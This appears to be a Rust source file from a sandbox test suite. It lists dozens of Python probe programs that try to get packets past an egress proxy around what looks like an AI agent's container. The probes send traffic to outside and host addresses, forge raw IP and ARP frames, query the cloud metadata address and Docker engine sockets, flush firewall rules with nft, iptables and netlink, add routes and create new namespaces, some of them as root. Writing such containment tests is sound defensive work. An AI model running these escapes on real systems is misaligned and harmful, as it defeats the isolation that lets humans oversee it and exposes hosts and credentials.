//! Packets past the proxy: every protocol, every address, every way to send.

use crate::table::{Attack, Group, recorded};

pub(crate) const ATTACKS: &[Attack] = &[
    tries("TCP to an outside address", "tcp(OUT, 9000)"),
    tries("TCP to its HTTPS port", "tcp(OUT, 443)"),
    tries("TCP to its ssh port", "tcp(OUT, 22)"),
    tries("TCP to port 53", "tcp(OUT, 53)"),
    tries("TCP to an outside host's address on another network", "tcp(FAR, 9000)"),
    tries("TCP from a socket bound to the interface", "for device in DEVICES: tcp(OUT, 9000, device=device)"),
    tries("TCP from each own address", "for own in OWN: tcp(OUT, 9000, source=own); tcp(NEAR, 9000, source=own)"),
    tries("TCP Fast Open", "packet(socket.AF_INET, socket.SOCK_STREAM, 0, N, (OUT, 9000), [(6, 30, 1)])
with socket.socket() as made:
    try: made.sendto(N.encode(), 0x20000000, (OUT, 9000))
    except OSError as error: print(error)"),
    tries("a hundred TCP attempts at once", "
made = [socket.socket() for _ in range(100)]
for one in made:
    one.setblocking(False)
    one.connect_ex((OUT, 9000))
time.sleep(1)
for one in made:
    try: one.send(N.encode())
    except OSError: pass"),
    tries("Multipath TCP", "packet(socket.AF_INET, socket.SOCK_STREAM, 262, N, (OUT, 9000))
try:
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); made.settimeout(2); made.connect((OUT, 9000)); made.send(N.encode())
except OSError as error: print(error)"),
    tries("SCTP", "
try:
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); made.settimeout(2); made.connect((OUT, 9000)); made.send(N.encode())
except OSError as error: print(error)"),
    tries("DCCP", "
try:
    made = socket.socket(socket.AF_INET, 6, 33); made.settimeout(2); made.connect((OUT, 9000)); made.send(N.encode())
except OSError as error: print(error)"),
    tries("UDP to an outside address", "udp(OUT, 9001)"),
    tries("UDP to an outside host's address on another network", "udp(FAR, 9001)"),
    tries("UDP from a socket bound to the interface", "for device in DEVICES: udp(OUT, 9001, device=device)"),
    tries("UDP from each own address", "for own in OWN: udp(OUT, 9001, source=own); udp(NEAR, 9001, source=own)"),
    tries("UDP from a connected socket", "
try:
    made = socket.socket(type=socket.SOCK_DGRAM); made.connect((OUT, 9001)); made.send(N.encode())
except OSError as error: print(error)"),
    tries("UDP in fragments", "udp(OUT, 9001, N * 3500)"),
    tries("UDP with segmentation offload", "udp(OUT, 9001, N * 200, options=[(17, 103, 1400)])"),
    tries("UDP-Lite", "packet(socket.AF_INET, socket.SOCK_DGRAM, 136, N, (OUT, 9001))"),
    tries("UDP on the ports of QUIC, NTP, DHCP and TFTP", "for port in (443, 123, 67, 69): udp(OUT, port)"),
    tries("UDP with a mark and a priority", "udp(OUT, 9001, options=[(1, 36, 1)]); udp(OUT, 9001, options=[(1, 12, 6)])"),
    tries("UDP with a loose source route over a sidecar", "
route = b'\\x83\\x0b\\x04' + socket.inet_aton(SIDES[0]) + socket.inet_aton(OUT) + b'\\0'
udp(SIDES[0], 9001, options=[(0, 4, route)]); udp(OUT, 9001, options=[(0, 4, route)])"),
    tries("UDP from a foreign source address", "udp(OUT, 9001, source='192.0.2.9', options=[(0, 15, 1)]); udp(NEAR, 9001, source='192.0.2.9', options=[(0, 15, 1)])"),
    tries("UDP through a transparent socket", "udp(OUT, 9001, options=[(0, 19, 1)])"),
    tries("ICMP echo, as an ordinary user may send it", "packet(socket.AF_INET, socket.SOCK_DGRAM, 1, echo_request(N), (OUT, 0)); packet(socket.AF_INET, socket.SOCK_DGRAM, 1, echo_request(N), (NEAR, 0))"),
    tries("ICMP echo from a raw socket", "packet(socket.AF_INET, socket.SOCK_RAW, 1, echo_request(N), (OUT, 0)); packet(socket.AF_INET, socket.SOCK_RAW, 1, echo_request(N), (NEAR, 0))"),
    tries("a raw IP packet with a forged source", "for to in (OUT, NEAR): packet(socket.AF_INET, socket.SOCK_RAW, 255, ip_packet(17, '192.0.2.9', to, udp_header(4000, 9001, N)), (to, 0))"),
    tries("raw packets of GRE, IP-in-IP, ESP and OSPF", "for protocol in (47, 4, 50, 89): packet(socket.AF_INET, socket.SOCK_RAW, protocol, N, (NEAR, 0)); packet(socket.AF_INET, socket.SOCK_RAW, protocol, N, (OUT, 0))"),
    tries("an Ethernet frame to everyone", FRAME),
    tries("an ARP request that carries data", ARP),
    tries("TCP to a neighbor on the internal network", "for port in (80, 443, 22, 9000, 8888, 9099, 9100, 9418): tcp(NEAR, port)"),
    tries("UDP to a neighbor on the internal network", "for port in (53, 9001): udp(NEAR, port)"),
    tries("UDP to everyone: 255.255.255.255", "for device in (None, *DEVICES): udp('255.255.255.255', 9001, device=device, options=[(1, 6, 1)])"),
    tries("UDP to everyone on the subnet", "for device in (None, *DEVICES): udp(EVERYONE, 9001, device=device, options=[(1, 6, 1)])"),
    tries("IPv4 multicast", "for own in OWN:
    for to in ('224.0.0.1', '239.255.255.250'):
        udp(to, 9001, options=[(0, 32, socket.inet_aton(own)), (0, 33, 8)]); udp(to, 1900, options=[(0, 32, socket.inet_aton(own))])"),
    tries("an IGMP membership report", "
try:
    made = socket.socket(type=socket.SOCK_DGRAM)
    for own in OWN: made.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + socket.inet_aton(own))
    made.sendto(N.encode(), ('239.1.2.3', 9001))
except OSError as error: print(error)"),
    tries("IPv4 link-local addresses", "for to in ('169.254.1.1', '169.254.255.255'):
    for device in (None, *DEVICES): tcp(to, 80, device=device); udp(to, 9001, device=device)"),
    tries("the metadata address over TCP", "for device in (None, *DEVICES): tcp('169.254.169.254', 80, f'GET /latest/meta-data/{N} HTTP/1.0\\r\\n\\r\\n', device=device)"),
    tries("the metadata address over UDP", "for device in (None, *DEVICES): udp('169.254.169.254', 80, device=device); udp('169.254.169.254', 53, device=device)"),
    tries("IPv6 to the outside host", "for to in SIX: tcp(to, 9000, family=socket.AF_INET6); udp(to, 9001, family=socket.AF_INET6)"),
    tries("IPv4 addresses written as IPv6", "tcp(f'::ffff:{OUT}', 9000, family=socket.AF_INET6); udp(f'::ffff:{OUT}', 9001, family=socket.AF_INET6); udp(f'::ffff:{NEAR}', 9001, family=socket.AF_INET6)"),
    tries("IPv6 multicast to all nodes", "for index, _ in socket.if_nameindex(): udp(f'ff02::1%{index}', 9001, family=socket.AF_INET6)"),
    tries("IPv6 router solicitation", "for index, name in socket.if_nameindex(): packet(socket.AF_INET6, socket.SOCK_RAW, 58, b'\\x85\\0\\0\\0\\0\\0\\0\\0' + N.encode(), (f'ff02::2%{index}', 0))"),
    tries("IPv6, turned on first", "for scope in ('all', 'default', *DEVICES): write(f'/proc/sys/net/ipv6/conf/{scope}/disable_ipv6', '0')
time.sleep(2)
for index, _ in socket.if_nameindex(): udp(f'ff02::1%{index}', 9001, family=socket.AF_INET6)"),
    tries("6to4 and Teredo addresses", "udp('2002:c633:6401::1', 9001, family=socket.AF_INET6); udp('2001:0:c633:6401::1', 9001, family=socket.AF_INET6)"),
    tries("TCP to every address of the host", "for to in HOSTS: tcp(to, HTCP)"),
    tries("UDP to every address of the host", "for to in HOSTS: udp(to, HUDP)"),
    tries("the host, from a socket bound to the interface", "for to in HOSTS:
    for device in DEVICES: tcp(to, HTCP, device=device); udp(to, HUDP, device=device)"),
    tries("the gateway address of the internal network", "tcp(GATEWAY, HTCP); udp(GATEWAY, HUDP)
for device in DEVICES: tcp(GATEWAY, HTCP, device=device); udp(GATEWAY, HUDP, device=device)"),
    tries("the names of the host", "for name in ('host.docker.internal', 'gateway.docker.internal', 'host.containers.internal', 'host'): tcp(name, HTCP); udp(name, HUDP)"),
    tries("the engine's API over TCP", "for to in HOSTS:
    for port in (2375, 2376, 2377, 4243): tcp(to, port, f'GET /{N} HTTP/1.0\\r\\n\\r\\n')"),
    tries("the sidecars' addresses on the egress network", "for to in SIDES_OUT:
    for port in (8888, 9099, 9100, 9418, 80): threading.Thread(target=bare, args=(f'CONNECT {FORBIDDEN}:443 HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\nX: {N}\\r\\n\\r\\n', (to, port))).start()"),
    tries("pipelock, past egress", "for to in SIDES: connect(f'{OUT}:9000', send=N, address=(to, 8888)); tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n', address=(to, 8888))"),
    tries("the addresses of another bottle's sidecars", "for to in OTHERS: connect(f'{OUT}:9000', send=N, address=(to, 8888)); tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n', address=(to, 8888))"),
    tries("a sidecar used as a router", "sh('ip route add $OUT via $SIDE; ip route add default via $SIDE'); udp(OUT, 9001); tcp(OUT, 9000)"),
    tries("a new route over netlink", ROUTE),
    tries("a new address on the interface", "
address = struct.pack('16sHH4s8x', DEVICES[0].encode(), 2, 0, socket.inet_aton('198.51.100.250'))
with socket.socket(type=socket.SOCK_DGRAM) as made:
    try: fcntl.ioctl(made, 0x8916, address)
    except OSError as error: print(error)
udp(OUT, 9001)"),
    tries("the rules deleted over netlink", FLUSH),
    tries("the rules deleted with the usual tools", "sh('nft flush ruleset; iptables -P OUTPUT ACCEPT; iptables -F; iptables-legacy -F; ip6tables -F; ufw disable'); tcp(OUT, 9000); udp(NEAR, 9001)"),
    tries("the rules of the seal, run by the agent", "sh('find / -xdev -name seal -type f -exec {} check \\\\;; find / -xdev -name nft -exec {} delete table inet bottle \\\\;'); udp(NEAR, 9001)"),
    tries("a network namespace of its own", "print(syscall(272, 0x40000000)); tcp(OUT, 9000); udp(NEAR, 9001); udp(OUT, 9001)"),
    tries("a user and network namespace of its own", "print(syscall(272, 0x50000000)); tcp(OUT, 9000); udp(NEAR, 9001)
packet(socket.AF_INET, socket.SOCK_RAW, 1, echo_request(N), (NEAR, 0))"),
    tries("root in a user namespace, with a packet socket", USER_NAMESPACE),
    tries("the network namespaces of all other processes", "
for path in pathlib.Path('/proc').glob('[0-9]*/ns/net'):
    try: handle = os.open(path, os.O_RDONLY)
    except OSError: continue
    syscall(308, handle, 0x40000000)
    udp(NEAR, 9001)"),
    tries("a vsock to the host", "for cid in (0, 1, 2, 3):
    try:
        made = socket.socket(40, 1); made.settimeout(2); made.connect((cid, HTCP)); made.send(N.encode()); got(f'vsock {cid}')
    except OSError as error: print(error)"),
    tries("abstract Unix sockets of the host", "
for line in sysfile('/proc/net/unix').splitlines():
    if ' @' in line:
        try:
            made = socket.socket(socket.AF_UNIX); made.settimeout(2); made.connect('\\0' + line.split(' @')[1]); made.send(N.encode()); got(line)
        except OSError as error: print(error)").claimed(),
    tries("the engine's Unix socket", "
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock', '/run/crio/crio.sock', '/run/buildkit/buildkitd.sock'):
    try:
        made = socket.socket(socket.AF_UNIX); made.settimeout(2); made.connect(path); made.send(b'GET /info HTTP/1.0\\r\\n\\r\\n'); got(path)
    except OSError as error: print(error)").claimed(),
    tries("as root: the engine's Unix socket", "
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock'):
    try:
        made = socket.socket(socket.AF_UNIX); made.settimeout(2); made.connect(path); made.send(b'GET /info HTTP/1.0\\r\\n\\r\\n'); got(path)
    except OSError as error: print(error)").claimed().as_root(),
    tries("a tunnel device", "
try: got(os.open('/dev/net/tun', os.O_RDWR))
except OSError as error: print(error)
try: os.mkdir('/dev/net'); os.mknod('/dev/net/tun', 0o20666, os.makedev(10, 200)); got(os.open('/dev/net/tun', os.O_RDWR))
except OSError as error: print(error)").claimed(),
    tries("socket families that no rule sees", "
for name, family, kind, protocol in (('XDP', 44, 3, 0), ('TIPC', 30, 2, 0), ('CAN', 29, 3, 1), ('Bluetooth', 31, 3, 0), ('IEEE 802.15.4', 36, 2, 0), ('PPPoX', 24, 1, 0), ('RDS', 21, 5, 0), ('AX.25', 3, 5, 0), ('LLC', 26, 2, 0), ('key', 15, 3, 2), ('NFC', 39, 3, 0), ('AppleTalk', 5, 2, 0)):
    try: socket.socket(family, kind, protocol); got(name)
    except OSError as error: print(name, error)").claimed(),
    // As root in the agent's container.
    tries("as root: TCP and UDP to an outside address", "tcp(OUT, 9000); udp(OUT, 9001); udp(FAR, 9001)").as_root(),
    tries("as root: TCP and UDP from bound sockets", "for device in DEVICES: tcp(OUT, 9000, device=device); udp(NEAR, 9001, device=device); udp(OUT, 9001, device=device)").as_root(),
    tries("as root: TCP and UDP to the host", "for to in (*HOSTS, GATEWAY): tcp(to, HTCP); udp(to, HUDP)").as_root(),
    tries("as root: raw ICMP and IP packets", "for to in (OUT, NEAR): packet(socket.AF_INET, socket.SOCK_RAW, 1, echo_request(N), (to, 0)); packet(socket.AF_INET, socket.SOCK_RAW, 255, ip_packet(17, '192.0.2.9', to, udp_header(4000, 9001, N)), (to, 0))").as_root(),
    tries("as root: an Ethernet frame to everyone", FRAME).as_root(),
    tries("as root: an ARP request that carries data", ARP).as_root(),
    tries("as root: the rules deleted over netlink", FLUSH).as_root(),
    tries("as root: a new route over netlink", ROUTE).as_root(),
    tries("as root: IPv6, turned on first", "for scope in ('all', 'default', *DEVICES): write(f'/proc/sys/net/ipv6/conf/{scope}/disable_ipv6', '0')
time.sleep(2)
for index, _ in socket.if_nameindex(): udp(f'ff02::1%{index}', 9001, family=socket.AF_INET6)").as_root(),
    tries("as root: a network namespace of its own", "print(syscall(272, 0x40000000)); tcp(OUT, 9000); udp(NEAR, 9001)").as_root(),
    tries("as root: a user namespace with a packet socket", USER_NAMESPACE).as_root(),
    tries("as root: pipelock, past egress", "for to in SIDES: connect(f'{OUTSIDE}:443', address=(to, 8888)); tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n', address=(to, 8888))").as_root(),
    tries("without egress: TCP and UDP to the outside, a neighbor and the host", "for to in (OUT, FAR, NEAR): tcp(to, 9000); udp(to, 9001)
for to in (*HOSTS, GATEWAY): tcp(to, HTCP); udp(to, HUDP)").in_plain(),
    tries("without egress: bound sockets", "for device in DEVICES: tcp(OUT, 9000, device=device); udp(OUT, 9001, device=device); udp(NEAR, 9001, device=device)").in_plain(),
    tries("without egress: the addresses of another bottle's sidecars", "for to in OTHERS: connect(f'{OUTSIDE}:443', send=N, address=(to, 9099)); tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n', address=(to, 9099))").in_plain(),
];

const fn tries(name: &'static str, program: &'static str) -> Attack {
    recorded(Group::Network, name, program)
}

const FRAME: &str = "
for device in DEVICES:
    packet(17, 3, 0x300, b'\\xff' * 6 + b'\\x02\\0\\0\\0\\0\\x07' + b'\\x88\\xb5' + N.encode() + b'\\0' * 40, (device, 0x88b5))";

const ARP: &str = "
for device in DEVICES:
    arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x800, 6, 4, 1, b'\\x02\\0\\0\\0\\0\\x07', b'\\xc0\\0\\x02\\x09', b'\\0' * 6, socket.inet_aton(NEAR))
    packet(17, 3, 0x300, b'\\xff' * 6 + b'\\x02\\0\\0\\0\\0\\x07' + b'\\x08\\x06' + arp + N.encode(), (device, 0x806))";

/// Adds a default route over each address that could be a gateway, then sends.
const ROUTE: &str = "
index = {name: index for index, name in socket.if_nameindex()}
def attribute(kind, data): return struct.pack('HH', 4 + len(data), kind) + data + b'\\0' * (-len(data) % 4)
for gateway in (GATEWAY, *SIDES, NEAR):
    body = struct.pack('BBBBBBBBI', 2, 0, 0, 0, 254, 4, 0, 1, 0) + attribute(5, socket.inet_aton(gateway)) + attribute(4, struct.pack('I', index[DEVICES[0]]))
    message = struct.pack('IHHII', 16 + len(body), 24, 0x405 | 0x100, 1, 0) + body
    try:
        made = socket.socket(16, 3, 0); made.bind((0, 0)); made.send(message); print(made.recv(4096))
    except OSError as error: print(error)
    udp(OUT, 9001); tcp(OUT, 9000)";

/// Deletes the table of the seal, and every table, then sends.
const FLUSH: &str = "
def attribute(kind, data): return struct.pack('HH', 4 + len(data), kind) + data + b'\\0' * (-len(data) % 4)
def message(kind, flags, number, family, identity, body): 
    payload = struct.pack('!BBH', family, 0, identity) + body
    return struct.pack('IHHII', 16 + len(payload), kind, flags, number, 0) + payload
for family in (1, 2, 0):
    for name in (b'bottle\\0', b'closed\\0', None):
        table = attribute(1, name) if name else b''
        batch = message(16, 1, 1, 0, 10, b'') + message(0xa02, 5, 2, family, 0, table) + message(17, 1, 3, 0, 10, b'')
        try:
            made = socket.socket(16, 3, 12); made.bind((0, 0)); made.settimeout(2); made.send(batch); print(made.recv(4096))
        except OSError as error: print(error)
tcp(OUT, 9000); tcp(NEAR, 9000); udp(NEAR, 9001); udp(OUT, 9001)";

/// Becomes root in a user namespace that keeps the network namespace.
const USER_NAMESPACE: &str = "
print(syscall(272, 0x10000000))
for device in DEVICES:
    packet(17, 3, 0x300, b'\\xff' * 6 + b'\\x02\\0\\0\\0\\0\\x07' + b'\\x88\\xb5' + N.encode() + b'\\0' * 40, (device, 0x88b5))
for to in (OUT, NEAR): packet(socket.AF_INET, socket.SOCK_RAW, 1, echo_request(N), (to, 0))";
